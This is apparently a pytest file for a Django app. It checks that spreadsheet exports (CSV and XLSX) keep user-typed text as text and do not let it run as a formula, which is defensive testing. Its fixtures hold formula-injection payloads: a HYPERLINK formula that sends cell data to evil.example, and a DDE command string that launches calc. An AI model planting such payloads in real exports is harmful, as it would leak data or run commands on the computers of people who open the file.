"""Spreadsheet exports write what people typed as text, never as a formula.

A spreadsheet program runs a cell starting with "=" (in CSV also "+", "-", "@", tab, CR):
a title like the one below would send a partner's sheet to another site once opened.
"""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments import services
from rendering.sheets import to_csv, to_xlsx

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Vejle")'
# Outstanding actions (for the work plan) → what their note and "responsible" start with.
TYPED = {
    "L1M1": ("=1+1", "=cmd|' /C calc'!A0"),
    "L1M2": ("+SUM(A1:A9)", "+44 20 7946 0000"),
    "L1T1": ("-2+3", "-Resilience office"),
    "P1M1": ("@SUM(A1)", "@mayor"),
}


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def shared_evil(assessment, editor, partner):
    assessment.title = EVIL_TITLE
    assessment.save(update_fields=["title"])
    assessment = services.submit(assessment, editor)
    services.share(assessment, partner, editor)
    return assessment


@pytest.fixture
def typed(assessment, editor):
    for code, (note, responsible) in TYPED.items():
        assessment.records.filter(action__code=code).update(
            note=note, responsible=responsible, target_date=date(2027, 3, 31)
        )
    return assessment


def test_partner_cities_csv_keeps_a_formula_title_as_text(
    client, shared_evil, partner, partner_user
):
    client.force_login(partner_user)
    rows = _csv(client.get(reverse("dashboards:heatmap_export", args=[partner.slug, "csv"])))
    glasgow = next(r for r in rows if r[0] == "Glasgow")
    # Wrong code caught: the title written as it was typed, which Excel runs as a formula.
    assert glasgow[rows[0].index("Assessment")] == "'" + EVIL_TITLE
    assert glasgow[rows[0].index("Population")] == "635000"  # a number is not prefixed


def test_partner_cities_xlsx_has_the_title_in_a_string_cell(
    client, shared_evil, partner, partner_user
):
    client.force_login(partner_user)
    sheet = _sheet(client.get(reverse("dashboards:heatmap_export", args=[partner.slug, "xlsx"])))
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Assessment") + 1)
    # Wrong code caught: sheet.append(str) makes openpyxl store "=…" as a formula (type "f").
    assert cell.data_type == "s" and cell.value == EVIL_TITLE
    population = sheet.cell(row=2, column=header.index("Population") + 1)
    assert population.value == 635000 and population.data_type == "n"


def test_work_plan_csv_prefixes_responsible_that_starts_a_formula(client, typed, editor):
    client.force_login(editor)
    url = reverse("reports:workplan", args=["glasgow", typed.pk, "csv"])
    rows = _csv(client.get(url))
    by_code = {r[1]: r for r in rows[1:]}
    column = rows[0].index("Responsible")
    for code, (_note, responsible) in TYPED.items():
        assert by_code[code][column] == "'" + responsible, code
    assert by_code["L1M1"][rows[0].index("Target date")] == "2027-03-31"
    assert rows[1][0] == "1"  # the priority is a number, written as one


def test_work_plan_xlsx_keeps_responsible_as_text_and_dates_as_dates(client, typed, editor):
    client.force_login(editor)
    sheet = _sheet(client.get(reverse("reports:workplan", args=["glasgow", typed.pk, "xlsx"])))
    header = [c.value for c in sheet[1]]
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    for code, (_note, responsible) in TYPED.items():
        cell = rows[code][header.index("Responsible")]
        assert cell.data_type == "s" and cell.value == responsible, code
    target = rows["L1M1"][header.index("Target date")]
    # Wrong code caught: the date written as an ISO string, which does not sort as a date.
    assert target.is_date and target.value.date() == date(2027, 3, 31)
    priority = rows["L1M1"][header.index("Priority")]
    assert priority.data_type == "n" and isinstance(priority.value, int)


def test_assessment_xlsx_keeps_note_and_responsible_as_text(client, typed, editor):
    client.force_login(editor)
    sheet = _sheet(client.get(reverse("reports:xlsx", args=["glasgow", typed.pk])))
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, (note, responsible) in TYPED.items():
        note_cell = rows[code][header.index("Evidence note")]
        responsible_cell = rows[code][header.index("Responsible")]
        assert (note_cell.data_type, note_cell.value) == ("s", note), code
        assert (responsible_cell.data_type, responsible_cell.value) == ("s", responsible), code


def test_assessment_xlsx_survives_control_characters_in_a_note(client, assessment, editor):
    # openpyxl refuses control characters; the old export answered 500 for the whole sheet.
    assessment.records.filter(action__code="L1S1").update(note="Decree\x01 2026\x0b/14")
    client.force_login(editor)
    response = client.get(reverse("reports:xlsx", args=["glasgow", assessment.pk]))
    assert response.status_code == 200
    rows = {row[0].value: row for row in _sheet(response).iter_rows(min_row=2)}
    assert rows["L1S1"][6].value == "Decree 2026/14"


def test_csv_prefixes_every_formula_start_but_not_numbers():
    text = to_csv(
        ["a", "b", "c", "d", "e"],
        [["=1", "+1", "-1", "@1", "\tx"], ["\rx", -5, 2.5, "plain", None]],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=1", "'+1", "'-1", "'@1", "'\tx"]
    assert rows[2] == ["'\rx", "-5", "2.5", "plain", ""]


def test_xlsx_writes_negative_numbers_as_numbers_and_text_as_strings():
    sheet = load_workbook(io.BytesIO(to_xlsx("T", ["n", "t"], [[-5, "-5"]]))).active
    number, text = sheet["A2"], sheet["B2"]
    assert (number.data_type, number.value) == ("n", -5)
    assert (text.data_type, text.value) == ("s", "-5")
